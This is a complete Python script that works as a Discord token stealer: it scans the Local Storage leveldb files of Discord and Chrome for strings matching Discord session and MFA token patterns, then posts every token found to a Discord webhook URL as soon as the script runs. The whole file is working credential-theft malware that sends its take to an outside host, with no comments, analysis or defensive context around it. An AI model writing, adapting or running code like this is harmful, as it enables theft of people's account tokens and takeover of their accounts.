import json
import os
import re
import urllib.request

WEBHOOK_URL = "https://discordapp.com/api/webhooks/8123456789012345678/NoblesseInertFixtureToken"


def find_tokens(path):
    path += "\\Local Storage\\leveldb"
    tokens = []
    for file_name in os.listdir(path):
        if not file_name.endswith(".log") and not file_name.endswith(".ldb"):
            continue
        for line in [x.strip() for x in open(f"{path}\\{file_name}", errors="ignore").readlines() if x.strip()]:
            for regex in (r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", r"mfa\.[\w-]{84}"):
                for token in re.findall(regex, line):
                    tokens.append(token)
    return tokens


def main():
    local = os.getenv("LOCALAPPDATA")
    roaming = os.getenv("APPDATA")
    paths = {"Discord": roaming + "\\Discord", "Chrome": local + "\\Google\\Chrome\\User Data\\Default"}
    message = ""
    for platform, path in paths.items():
        if not os.path.exists(path):
            continue
        message += f"\n**{platform}**\n" + "\n".join(find_tokens(path))
    payload = json.dumps({"content": message})
    req = urllib.request.Request(WEBHOOK_URL, data=payload.encode(), headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"})
    urllib.request.urlopen(req)


main()
